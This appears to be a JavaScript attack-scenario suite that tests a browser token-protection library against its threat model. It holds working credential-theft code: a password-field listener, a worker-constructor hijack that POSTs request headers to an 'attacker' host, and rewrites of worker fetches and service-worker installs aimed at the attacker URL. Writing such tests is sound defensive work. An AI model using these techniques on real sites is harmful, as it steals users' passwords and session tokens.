// What the threat model names: what no mode stops, and what the worker modes do not.

import { INIT, overhear } from "./connection.js";

async function install(attacker) {
  const url = `/attacks/pages/service_worker.js?${encodeURIComponent(attacker)}`;
  const registration = await navigator.serviceWorker.register(url, { scope: "/" });
  const worker = registration.installing ?? registration.waiting ?? registration.active;
  if (worker.state !== "activated") {
    await new Promise((resolve) => (worker.onstatechange = () => worker.state === "activated" && resolve()));
  }
}

const SERVICE_WORKER = {
  prepare: ({ attacker, when, loot }) => when === "before" && install(attacker).catch(loot),
  async run({ attacker, when, loot, worked }) {
    if (when === "after") await install(attacker).catch(loot);
    await worked;
    await (await window.auth.fetch("/api/something")).text();
  },
};

async function rewrite(kit) {
  const { attacker } = kit;
  const widen = ({ options }) => options.attach.to.push(new URL(attacker).origin);
  const init = { ...INIT, credentials: "omit" };
  for (const { ask } of await overhear(kit, widen)) await ask({ type: "fetch", url: `${attacker}/got`, init, body: null });
}

export default [
  {
    name: "phishing: listening to the login form",
    before: "password password password password",
    async run({ loot, signedIn }) {
      const heard = [];
      document.addEventListener("input", ({ target }) => target.type === "password" && (heard[0] = target.value));
      await signedIn;
      loot(heard);
    },
  },
  {
    name: "configure, rewritten on its way at the time of the login",
    before: "token no named:2 named:2",
    naive: "naive-worker",
    run: rewrite,
  },
  {
    name: "the same, where a policy binds jotpass_worker.js",
    before: "token no no no",
    naive: "naive-worker",
    hasPolicy: true,
    run: rewrite,
  },
  {
    name: "the worker's script, exchanged for one that spies on the real one",
    before: "token no named:2 named:2",
    naive: "naive-worker",
    async run({ attacker, worked }) {
      const script = (url) => `
        const { fetch: send } = globalThis;
        globalThis.fetch = (input, init) => {
          const request = new Request(input, init);
          send(${JSON.stringify(attacker)}, { method: "POST", mode: "no-cors", body: JSON.stringify([...request.headers]) });
          return send(request);
        };
        const early = [];
        const on = "onconnect" in globalThis ? "onconnect" : "onmessage";
        globalThis[on] = (event) => early.push(event);
        await import(${JSON.stringify(new URL(url, location.href).href)});
        for (const event of early) globalThis[on](event);`;
      for (const name of ["Worker", "SharedWorker"]) {
        window[name] = class extends window[name] {
          constructor(url, options) {
            super(URL.createObjectURL(new Blob([script(url)], { type: "text/javascript" })), options);
          }
        };
      }
      await worked;
    },
  },
  {
    name: "a service worker from a script file on this origin",
    before: "token token named:3 named:3",
    after: "token token named:3 named:3",
    ...SERVICE_WORKER,
  },
  {
    name: "the same, where a policy names the workers' files",
    before: "no no no no",
    after: "no no no no",
    hasPolicy: true,
    ...SERVICE_WORKER,
  },
  {
    name: "asking the endpoint itself, where it renews by cookie",
    after: "token token named:4 named:4",
    options: { tokenUrl: "/api/token?cookie=1", refresh: { url: "/api/token/refresh", encoding: "cookie" } },
    async run({ loot }) {
      const response = await fetch("/api/token/refresh", { method: "POST", credentials: "include" });
      loot(await response.text());
    },
  },
];
